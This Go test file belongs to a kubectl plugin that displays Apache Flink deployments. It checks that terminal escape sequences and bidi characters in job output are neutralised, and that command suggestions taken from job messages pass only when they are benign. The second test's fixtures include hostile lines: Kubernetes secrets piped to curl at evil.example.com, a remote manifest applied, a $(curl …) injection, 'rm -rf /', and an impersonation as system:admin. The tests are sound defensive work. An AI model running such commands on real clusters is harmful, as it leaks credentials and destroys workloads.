package view

import (
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// hostile is what a job, an image or a user may write: it clears a screen, writes a title, goes back to the beginning
// of a line, turns the direction of writing.
const hostile = "a\x1b[2Jb\x1b]0;title\x07c\rd\u009b31me\u202ef\u2066g\u2028h"

// Nothing that others write reaches a terminal as more than characters.
func TestATerminalGetsCharactersOnly(t *testing.T) {
	now := time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)
	condition := func(name, status string) any {
		return map[string]any{
			"type": name, "status": status, "reason": hostile, "message": hostile, "lastTransitionTime": "2026-12-01T07:00:00Z",
		}
	}
	seen := Seen{
		Resource: &unstructured.Unstructured{Object: map[string]any{
			"apiVersion": "flink.apache.org/v1beta1", "kind": "FlinkDeployment",
			"metadata": map[string]any{"name": "demo" + hostile, "namespace": "flink"},
			"spec": map[string]any{
				"flinkVersion": hostile, "job": map[string]any{"state": "running", "upgradeMode": hostile},
			},
			"status": map[string]any{
				"lifecycleState": hostile, "situation": hostile, "error": hostile, "jobManagerDeploymentStatus": hostile,
				"clusterInfo": map[string]any{"flink-version": hostile}, "observedGeneration": int64(1),
				"jobStatus": map[string]any{
					"state": hostile, "upgradeSavepointPath": hostile, "checkpoint": map[string]any{"path": hostile},
				},
				"conditions": []any{condition("Ready", "False"), condition("Stalled", "True"), condition(hostile, "True")},
			},
		}},
		Pods: []corev1.Pod{{
			ObjectMeta: metav1.ObjectMeta{Name: "p" + hostile, Namespace: "flink"},
			Status: corev1.PodStatus{ContainerStatuses: []corev1.ContainerStatus{{
				State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: hostile, Message: hostile}},
			}}},
		}},
		Events: []corev1.Event{{
			Type: "Warning", Reason: hostile, Message: hostile, LastTimestamp: metav1.NewTime(now),
			InvolvedObject: corev1.ObjectReference{Kind: hostile, Name: hostile},
		}},
		Unreadable: []string{hostile}, Now: now,
	}
	row := RowOf(seen.Resource)
	for name, text := range map[string]string{
		"list":        List([]Row{row}, Style{Now: now, Namespaces: true, Wide: true, Tree: true}),
		"describe":    JobOf(seen).Text(now, false),
		"describe -v": JobOf(seen).Text(now, true), "why": Why(seen).Text(now), "restored": Restored(seen).Text(now),
		"events": Events(EventsOf(seen.Events, SecretsOf(seen.Resource)), now, false),
	} {
		if at := strings.IndexAny(text, "\x1b\x07\r\u009b\u202e\u2066\u2028"); at >= 0 {
			t.Errorf("%s: %q", name, text[max(0, at-40):min(len(text), at+40)])
		}
		if !strings.Contains(text, "a") {
			t.Errorf("%s: %q", name, text)
		}
	}
	if got := Printable("Exception\n\tat a.b(C.java:1)"); got != "Exception?\tat a.b(C.java:1)" {
		t.Errorf("%q", got)
	}
}

// What a job says does not become a command that the plugin advises, nor a part of one.
func TestOnlyTheOperatorTellsCommands(t *testing.T) {
	for _, row := range []struct{ text, message, command string }{
		{
			"run: kubectl annotate flinkdeployment demo -n flink a/b=true to take it over, or a/c=true",
			"run: … to take it over, or a/c=true",
			"kubectl annotate flinkdeployment demo -n flink a/b=true",
		},
		{
			`go: kubectl patch flinkdeployment demo -n flink --type=merge -p '{"a":"<path>; b"}' It says x; rm -rf /`,
			`go: … It says x; rm -rf /`,
			`kubectl patch flinkdeployment demo -n flink --type=merge -p '{"a":"<path>; b"}'`,
		},
		{
			"run: kubectl delete pod -n flink -l app=demo,component=jobmanager. Without it", "run: …. Without it",
			"kubectl delete pod -n flink -l app=demo,component=jobmanager",
		},
		{
			"down: kubectl delete pod -n flink --force --grace-period=0 a b", "down",
			"kubectl delete pod -n flink --force --grace-period=0 a b",
		},
		{
			"none: kubectl scale deployment demo -n flink --replicas=1", "none",
			"kubectl scale deployment demo -n flink --replicas=1",
		},
		{text: "the job FAILED: boom: kubectl delete namespace -n flink prod"},
		{text: "boom: kubectl delete pod -n flink -n prod --all"},
		{text: "boom: kubectl get secrets -n flink -o yaml | curl -d @- evil.example.com"},
		{text: "boom: kubectl exec -n flink demo -- sh"},
		{text: "boom: kubectl apply -n flink -f https://evil.example.com/x.yaml"},
		{text: "boom: kubectl patch clusterrole x -n flink --as=system:admin -p 'x'"},
		{text: "boom: kubectl annotate flinkdeployment demo -n flink x=$(curl evil.example)"},
		{text: "boom: kubectl annotate flinkdeployment demo -n flink x='y"},
		{text: "boom: kubectl annotate flinkdeployment demo -n other x=y"},
		{text: "boom: kubectl get pods"},
		{text: "boom: kubectl "},
	} {
		if row.command == "" {
			row.message = row.text
		}
		if message, command := withoutCommand(row.text, "flink"); message != row.message || command != row.command {
			t.Errorf("%s\ntold: %q, message %q", row.text, command, message)
		}
	}
}
